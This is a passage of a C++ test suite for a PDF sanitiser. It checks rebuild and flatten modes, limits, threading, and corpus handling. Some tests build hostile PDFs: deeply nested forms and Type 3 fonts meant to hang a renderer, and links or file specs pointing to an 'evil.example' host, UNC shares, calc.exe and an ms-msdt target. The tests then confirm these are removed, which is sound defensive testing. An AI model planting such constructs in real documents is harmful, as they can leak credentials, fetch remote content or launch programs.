      REQUIRE(o.replacement);
      if (round % 25 == 0 && !mt::toolMissing("qpdf")) {
        mt::TempDir dir;
        mt::writeFile(dir.path() / "out.pdf", o.replacement->data);
        auto qdf =
            mt::runTool({"qpdf", "--qdf", "--object-streams=disable",
                         (dir.path() / "out.pdf").string(), (dir.path() / "qdf.pdf").string()});
        REQUIRE((qdf.exit_code == 0 || qdf.exit_code == 3));
        CHECK(namesFound(mt::readFile(dir.path() / "qdf.pdf"), kForbidden).empty());
      }
    } else {
      ++refused;
      reasons[o.detail]++;
      CHECK_FALSE(o.replacement);
      CHECK((o.reason == Reason::CdrFailed || o.reason == Reason::ContentEncrypted ||
             o.reason == Reason::LimitDocumentObjects));
    }
    if (round % 10 == 0) {
      Harness hf;
      Outcome f = hf.run(*flatten, m);
      CHECK((f.verdict == Verdict::Modified || !f.replacement));
    }
  }
  std::string why;
  for (const auto& [detail, count] : reasons)
    why += "\n  " + std::to_string(count) + " x " + detail;
  WARN("mutations: " << modified << " rebuilt, " << refused << " refused:" << why);
  CHECK(modified > 0);
}

TEST_CASE("pdf: one shared sanitizer used from several threads gives the same result", "[pdf]") {
  auto rebuild = makeSanitizer();
  auto flatten = makeSanitizer({{"mode", "flatten"}, {"flatten_dpi", "36"}});
  const std::string in = hostilePdf();
  Harness ref;
  const std::string expected = findingsText(ref.run(*rebuild, in));
  std::atomic<int> same{0}, flattened{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&] {
      for (int i = 0; i < 5; ++i) {
        Harness h;
        if (findingsText(h.run(*rebuild, in)) == expected) ++same;
        Harness hf;
        if (hf.run(*flatten, in).reason == Reason::CdrConverted) ++flattened;
      }
    });
  }
  for (auto& t : threads) t.join();
  CHECK(same == 20);
  CHECK(flattened == 20);
}

TEST_CASE("pdf: flatten renders pages to images - same page count, no fonts, no active content",
          "[pdf]") {
  auto s = makeSanitizer({{"mode", "flatten"}, {"flatten_dpi", "72"}});
  Harness h;
  Outcome o = h.run(*s, hostilePdf());
  INFO(o.detail);
  REQUIRE(o.verdict == Verdict::Modified);
  CHECK(o.reason == Reason::CdrConverted);
  CHECK(pageCount(o.replacement->data) == 3);
  if (!mt::toolMissing("qpdf")) {
    std::string qdf = checkWithQpdf(o.replacement->data);
    CHECK(namesFound(qdf, {"/Font", "/Annots", "/AcroForm", "/URI"}).empty());
    CHECK(namesFound(qdf, {"/DCTDecode"}).size() == 1);
  }
  if (!mt::toolMissing("pdftotext"))
    CHECK(pdfText(o.replacement->data).find("Mugai") == std::string::npos);
}

TEST_CASE("pdf: flatten limits - pages and pixels", "[pdf]") {
  std::string in = buildPdf(5);
  Harness h;
  CHECK(h.run(*makeSanitizer({{"mode", "flatten"}, {"flatten_max_pages", "4"}}), in).reason ==
        Reason::LimitDocumentObjects);
  // 5 letter pages at 150 dpi: 5 * 1275 * 1650 = 10.5 Mpx
  Harness small;
  small.limits.image_pixel_limit = 10000000;
  CHECK(small.run(*makeSanitizer({{"mode", "flatten"}}), in).reason == Reason::LimitImagePixels);
  Harness enough;
  enough.limits.image_pixel_limit = 11000000;
  CHECK(enough.run(*makeSanitizer({{"mode", "flatten"}}), in).reason == Reason::CdrConverted);
}

/// One page whose content draws form X1, which draws X2 `fan` times, ... down to X`depth`,
/// which strokes a line: fan^depth strokes from a file of a few KB.
std::string nestedFormsPdf(int depth, int fan) {
  QPDF pdf;
  pdf.emptyPDF();
  auto form = [&](const std::string& content) {
    QOH f = pdf.newStream(content);
    f.getDict().replaceKey("/Type", QOH::newName("/XObject"));
    f.getDict().replaceKey("/Subtype", QOH::newName("/Form"));
    f.getDict().replaceKey("/BBox", parse(pdf, "[0 0 612 792]"));
    return f;
  };
  QOH below = form("0 0 m 10 10 l S\n");
  for (int level = depth - 1; level >= 1; --level) {
    std::string content;
    for (int i = 0; i < fan; ++i) content += "/X Do\n";
    QOH f = form(content);
    f.getDict().replaceKey("/Resources", resourcesWith("/XObject", "/X", below));
    below = f;
  }
  return onePageFile(pdf, resourcesWith("/XObject", "/X", below), "/X Do\n");
}

/// One page showing glyph 'a' of Type 3 font F1, whose glyph procedure shows `fan` glyphs of
/// F2, ... down to F`depth`, whose glyph strokes a line: fan^(depth-1) glyph procedures.
std::string nestedType3Pdf(int depth, int fan) {
  QPDF pdf;
  pdf.emptyPDF();
  QOH below;  // the font one level down
  for (int level = depth; level >= 1; --level) {
    std::string proc = "10 0 d0\n";  // d0: a coloured glyph, which Splash does not cache
    if (level == depth) {
      proc += "0 0 m 10 10 l S\n";
    } else {
      proc += "BT /F 1 Tf (" + std::string(static_cast<std::size_t>(fan), 'a') + ") Tj ET\n";
    }
    QOH font = parse(pdf, "<< /Type /Font /Subtype /Type3 /FontBBox [0 0 10 10] "
                          "/FontMatrix [0.1 0 0 0.1 0 0] /FirstChar 97 /LastChar 97 /Widths [0] "
                          "/Encoding << /Type /Encoding /Differences [97 /a] >> >>");
    QOH procs = QOH::newDictionary();
    procs.replaceKey("/a", pdf.newStream(proc));
    font.replaceKey("/CharProcs", procs);
    if (below.isInitialized()) font.replaceKey("/Resources", resourcesWith("/Font", "/F", below));
    below = pdf.makeIndirectObject(font);
  }
  return onePageFile(pdf, resourcesWith("/Font", "/F", below), "BT /F 12 Tf 72 700 Td (a) Tj ET\n");
}

TEST_CASE("pdf: flatten stops Type 3 glyphs that draw each other at the item's deadline",
          "[pdf][fuzz]") {
  // The Type 3 form of the nested-forms page below: each glyph procedure starts poppler's abort
  // count again, so only the device's beginType3Char (past the deadline: taken as drawn) ends it.
  auto flatten = makeSanitizer({{"mode", "flatten"}, {"flatten_dpi", "36"}});
  Outcome o = withDeadline(*flatten, nestedType3Pdf(7, 64), 500);  // 64^6 glyph procedures
  CHECK(o.reason == Reason::LimitTime);
  Harness h;
  CHECK(h.run(*flatten, nestedType3Pdf(2, 8)).reason == Reason::CdrConverted);
}

TEST_CASE("pdf: flatten stops a page whose content never ends at the item's deadline",
          "[pdf][fuzz]") {
  // What the fuzz campaign found (bench/FUZZING.md finding 6): a small PDF that kept poppler's
  // renderer busy for minutes. 64^6 strokes through nested forms would take days; the renderer
  // asks the deadline as it draws, so the item gets limit.time at its deadline, not at the end.
  auto flatten = makeSanitizer({{"mode", "flatten"}, {"flatten_dpi", "36"}});
  const std::string endless = nestedFormsPdf(6, 64);
  CHECK(endless.size() < 8192);
  Outcome o = withDeadline(*flatten, endless, 500);
  CHECK(o.reason == Reason::LimitTime);
  CHECK(o.detail.find("page 1") != std::string::npos);

  // The same shape, small enough to draw (64^2 strokes), is flattened as before.
  Harness h;
  CHECK(h.run(*flatten, nestedFormsPdf(2, 64)).reason == Reason::CdrConverted);
}

TEST_CASE("pdf: corpus - every PDF rebuilt clean or refused as the manifest says",
          "[pdf][corpus]") {
  auto corpus = MUGAI_REQUIRE_CORPUS();
  if (!corpus || mt::toolMissing("qpdf")) return;
  std::ifstream manifest(*corpus / "MANIFEST.csv");
  std::string line;
  auto s = makeSanitizer();
  int seen = 0, rebuilt = 0, encrypted = 0, failed = 0;
  std::string refused;
  while (std::getline(manifest, line)) {
    if (line.rfind("\"pdf/", 0) != 0) continue;
    std::string rel = line.substr(1, line.find('"', 1) - 1);
    ++seen;
    INFO(rel);
    Harness h;
    Outcome o = h.run(*s, mt::readFile(*corpus / rel));
    INFO(o.detail);
    bool needs_password = line.find("needing a user password") != std::string::npos;
    if (needs_password) {
      CHECK(o.reason == Reason::ContentEncrypted);
      CHECK_FALSE(o.replacement);
    }
    // "PDF encrypted with an empty user password: must be decrypted and sanitised"
    if (line.find("encrypted with an empty user password") != std::string::npos ||
        line.find("encrypted with empty user password") != std::string::npos)
      CHECK(o.verdict == Verdict::Modified);
    if (o.verdict == Verdict::Modified) {
      ++rebuilt;
      REQUIRE(o.replacement);
      checkWithQpdf(o.replacement->data);
    } else {
      CHECK((o.reason == Reason::ContentEncrypted || o.reason == Reason::CdrFailed));
      CHECK_FALSE(o.replacement);
      (o.reason == Reason::ContentEncrypted ? encrypted : failed)++;
      refused += "\n  " + rel + ": " + std::string(mugai::reasonInfo(o.reason).name) + " (" +
                 o.detail + ")";
    }
  }
  WARN("corpus pdf: " << seen << " files, " << rebuilt << " rebuilt, " << encrypted
                      << " encrypted, " << failed << " failed closed:" << refused);
  CHECK(seen > 0);
}

TEST_CASE("pdf: corpus - flatten renders every readable PDF to an image-only PDF",
          "[pdf][corpus]") {
  auto corpus = MUGAI_REQUIRE_CORPUS();
  if (!corpus || mt::toolMissing("qpdf")) return;
  std::ifstream manifest(*corpus / "MANIFEST.csv");
  std::string line;
  auto s = makeSanitizer(
      {{"mode", "flatten"}, {"flatten_dpi", "36"}});  // low dpi: this is about robustness
  int seen = 0, converted = 0;
  std::string refused;
  while (std::getline(manifest, line)) {
    if (line.rfind("\"pdf/", 0) != 0) continue;
    std::string rel = line.substr(1, line.find('"', 1) - 1);
    ++seen;
    INFO(rel);
    Harness h;
    Outcome o = h.run(*s, mt::readFile(*corpus / rel));
    INFO(o.detail);
    if (line.find("needing a user password") != std::string::npos)
      CHECK(o.reason == Reason::ContentEncrypted);
    if (o.verdict == Verdict::Modified) {
      ++converted;
      CHECK(o.reason == Reason::CdrConverted);
      std::string qdf = checkWithQpdf(o.replacement->data);
      CHECK(namesFound(qdf, {"/Font", "/Annots", "/URI"}).empty());
    } else {
      CHECK_FALSE(o.replacement);
      refused += "\n  " + rel + ": " + std::string(mugai::reasonInfo(o.reason).name) + " (" +
                 o.detail + ")";
    }
  }
  WARN("corpus pdf flatten: " << seen << " files, " << converted
                              << " converted, refused:" << refused);
  CHECK(seen > 0);
}

// Red-team class 4 (issue 10): a /Thread action that opens another file and stream data taken
// from an external (URL) file specification.
TEST_CASE("pdf: Thread actions to other files and external stream data go", "[pdf][redteam4]") {
  std::string in = buildPdf(2, [](QPDF& pdf, std::vector<QOH>& pages) {
    QOH thread = pdf.makeIndirectObject(parse(
        pdf, "<< /S /Thread /D 0 /F << /FS /URL /F (http://evil.example/t.pdf) >> >>"));
    QOH link = parse(pdf, "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] >>");
    link.replaceKey("/A", thread);
    addAnnot(pages[0], pdf.makeIndirectObject(link));
    // Variant: the same action directly in the page's /AA is gone with /AA already; here as
    // /OpenAction-free outline-like use: a direct dictionary in a link on page 2.
    QOH link2 = parse(pdf, "<< /Type /Annot /Subtype /Link /Rect [0 0 50 50] /A << /S /Thread /D 1 "
                           "/F (\\\\\\\\evil.example\\\\share\\\\t.pdf) >> >>");
    addAnnot(pages[1], pdf.makeIndirectObject(link2));
    // External stream data: the page contents come from a URL file spec.
    QOH ext = pdf.newStream(std::string());
    ext.getDict().replaceKey("/F", parse(pdf, "<< /FS /URL /F (http://evil.example/c.bin) >>"));
    ext.getDict().replaceKey("/FFilter", QOH::newName("/FlateDecode"));
    QOH arr = QOH::newArray();
    arr.appendItem(pages[1].getKey("/Contents"));
    arr.appendItem(ext);
    pages[1].replaceKey("/Contents", arr);
  });
  REQUIRE(in.find("evil.example") != std::string::npos);
  const std::string out = rebuilt(in);
  CHECK(out.find("evil.example") == std::string::npos);
  CHECK(out.find("/FFilter") == std::string::npos);
  // A Thread action within the document stays (navigation only).
  std::string local = buildPdf(1, [](QPDF& pdf, std::vector<QOH>& pages) {
    QOH link = parse(pdf, "<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Thread /D 0 >> >>");
    addAnnot(pages[0], pdf.makeIndirectObject(link));
  });
  Harness h2;
  Outcome l = h2.run(*makeSanitizer(), local);
  REQUIRE(l.replacement);
  CHECK(l.replacement->data.find("/Thread") != std::string::npos);
}

// The red team's return: a reference XObject (/Ref: a page drawn from another file) and an OPI
// proxy (/OPI: the full image from another file) name files the reader or printer fetches, like
// external stream data; they go. URI actions to file:, UNC and ms- targets went before (rows).
TEST_CASE("pdf: reference XObjects and OPI proxies to other files go", "[pdf][redteam10]") {
  std::string in = buildPdf(1, [](QPDF& pdf, std::vector<QOH>& pages) {
    QOH form = pdf.newStream(std::string());
    form.getDict().replaceKey("/Type", QOH::newName("/XObject"));
    form.getDict().replaceKey("/Subtype", QOH::newName("/Form"));
    form.getDict().replaceKey("/BBox", parse(pdf, "[0 0 1 1]"));
    form.getDict().replaceKey("/Ref", parse(pdf, "<< /F (\\\\\\\\evil.example\\\\s\\\\ref.pdf) /Page 0 >>"));
    form.getDict().replaceKey("/OPI", parse(pdf, "<< /1.3 << /Type /OPI /Version 1.3 /F (\\\\\\\\evil.example\\\\s\\\\hi.tif) >> >>"));
    pages[0].replaceKey("/Resources", parse(pdf, "<< >>"));
    QOH xo = QOH::newDictionary();
    xo.replaceKey("/X", form);
    pages[0].getKey("/Resources").replaceKey("/XObject", xo);
    for (const char* uri : {"file:///C:/Windows/System32/calc.exe", "\\\\\\\\evil.example\\\\s\\\\x.exe",
                            "ms-msdt:/id PCWDiagnostic"}) {
      QOH link = parse(pdf, "<< /Type /Annot /Subtype /Link /Rect [0 0 10 10] >>");
      QOH a = parse(pdf, "<< /S /URI >>");
      a.replaceKey("/URI", QOH::newString(uri));
      link.replaceKey("/A", a);
      addAnnot(pages[0], pdf.makeIndirectObject(link));
    }
  });
  REQUIRE(in.find("evil.example") != std::string::npos);
  const std::string out = rebuilt(in);
  CHECK(out.find("evil.example") == std::string::npos);
  CHECK(out.find("/Ref") == std::string::npos);
  CHECK(out.find("/OPI") == std::string::npos);
  CHECK(out.find("calc.exe") == std::string::npos);
  CHECK(out.find("ms-msdt") == std::string::npos);
}
